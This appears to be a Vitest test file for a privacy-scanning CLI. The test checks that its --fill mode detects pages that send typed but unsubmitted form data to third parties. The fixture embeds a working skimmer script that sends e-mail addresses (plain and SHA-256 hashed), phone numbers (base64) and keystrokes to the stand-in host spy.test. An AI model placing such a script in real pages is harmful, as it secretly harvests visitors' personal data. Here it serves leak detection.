import { expect, test } from "vitest";
import { run } from "../cli/run.ts";
import { type SeenRequest, startServer } from "./server.ts";

const FORM = `<form action="/fill/submitted">
  <label>Your e-mail <input type="email" name="contact"></label>
  <label>Name <input name="who"></label>
  <label>Phone <input type="tel" name="number"></label>
  <input type="password" name="secret"> <input type="checkbox" name="agree">
  <input type="text" name="trap" style="display: none"> <textarea name="note"></textarea>
</form>`;

/** Sends what is typed: an address as it is and hashed, a name letter by letter, a number in base64. */
const SPY = `<script>
  const to = "https://spy.test/fill/";
  document.addEventListener("change", async ({ target: { name, value } }) => {
    if (name === "contact") {
      new Image().src = to + "plain?e=" + encodeURIComponent(value);
      const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(value));
      const hex = [...new Uint8Array(digest)].map((byte) => byte.toString(16).padStart(2, "0"));
      navigator.sendBeacon(to + "hashed", JSON.stringify({ em: hex.join("") }));
    }
    if (name === "number") fetch(to + "number?n=" + btoa(value), { mode: "no-cors" });
  });
  let keys = "";
  document.addEventListener("keyup", ({ key, target }) => {
    if (target.name !== "who") return;
    keys += key;
    if (keys.length % 12 === 0) navigator.sendBeacon(to + "keys", target.value);
  });
</script>`;

function answer({ host, path }: SeenRequest) {
  const html = { headers: { "content-type": "text/html" } };
  if (host === "shop.test") return { ...html, body: `<!doctype html>${FORM}${SPY}` };
  if (host === "quiet.test") return { ...html, body: `<!doctype html>${FORM}` };
  if (host === "bare.test") return { ...html, body: "<!doctype html><p>No form." };
  return { status: path.includes("plain") ? 200 : 204 };
}

test("--fill finds who receives what is typed and not submitted, and submits nothing", async () => {
  const server = await startServer({ answer });
  try {
    const { code, stdout } = await run([
      ...["https://shop.test/fill/", "https://quiet.test/fill/", "https://bare.test/fill/"],
      ...["--fill", "-f", "json", "--wait", "600ms", "--no-dns"],
      ...server.browserArgs.map((arg) => `--browser-arg=${arg}`),
    ]);
    const [shop, quiet, bare] = JSON.parse(stdout).results;
    expect(shop.page.filledFields).toBe(4);
    const leaks = shop.findings.flatMap(({ url, leaks }: Finding) =>
      leaks
        .filter(({ data }) => data === "form-input")
        .map(({ meaning, channel, encodings = [] }) => [
          new URL(url).pathname,
          channel,
          meaning,
          ...encodings,
        ]),
    );
    expect(leaks).toEqual(
      expect.arrayContaining([
        ["/fill/plain", "url", "e-mail address, typed and not submitted", "percent"],
        ["/fill/hashed", "body", "e-mail address, typed and not submitted", "sha256"],
        ["/fill/number", "url", "phone number, typed and not submitted", "base64"],
      ]),
    );
    expect(shop.findings.map(({ severity }: Finding) => severity)).toContain("high");
    expect(quiet.page.filledFields).toBe(4);
    expect(quiet.findings).toEqual([]);
    expect(bare.warnings).toContain("no form field was found that could be typed into");
    expect(server.requests("fill").map(({ path }) => path)).not.toContain("/fill/submitted");
    expect(code).toBe(1);
  } finally {
    await server.close();
  }
});

interface Finding {
  readonly url: string;
  readonly severity: string;
  readonly leaks: readonly {
    readonly data: string;
    readonly channel: string;
    readonly meaning: string;
    readonly encodings?: readonly string[];
  }[];
}
